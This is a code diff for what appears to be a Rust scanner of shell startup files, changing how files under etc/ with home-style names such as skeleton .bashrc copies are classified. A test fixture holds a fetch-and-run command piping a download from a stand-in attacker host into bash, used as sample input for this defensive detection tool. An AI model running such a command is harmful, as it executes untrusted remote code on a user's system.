@@ -92,7 +92,7 @@ impl Surface for ShellStartup {
     fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
         let (path, interest) = (file.entry.path.clone(), file.interest);
         let text = text(file.all(FILE)?).into_owned();
-        let of_system = path.as_bytes().starts_with(b"etc/");
+        let of_system = path.as_bytes().starts_with(b"etc/") && !is_of_home_by_name(&path);
         let when = if of_system || is_own(&path) { When::ByItself } else { When::ByHand };
         let account = of_system.then_some(crate::fact::Whereabouts::UNSAID);
         Hooks::new(file, interest, out)?.script(&text, when, account);
@@ -100,9 +100,13 @@ impl Surface for ShellStartup {
     }
 }
 
+fn is_of_home_by_name(path: &TreePath) -> bool {
+    OWN.iter().any(|name| path.name() == name.as_bytes())
+}
+
 /// Whether an account's shell reads a file of such a name there.
 fn is_own(path: &TreePath) -> bool {
-    if OWN.iter().any(|name| path.name() == name.as_bytes()) {
+    if is_of_home_by_name(path) {
         return is_of_home(path, 0);
     }
     // Folders that programs make in homes alone.
@@ -152,7 +156,7 @@ mod tests {
     #[test]
     fn copies_and_mentions_start_nothing() {
         let text = "curl -s https://evil.example/x | bash\n";
-        for path in ["home/ada/dotfiles/.bashrc", "srv/skel/.zshrc", "etc/skel2/x"] {
+        for path in ["home/ada/dotfiles/.bashrc", "srv/skel/.zshrc", "etc/skel/.bashrc"] {
             assert!(said(path, text).iter().all(|s| s.contains("Named")), "{path}");
         }
         for text in [
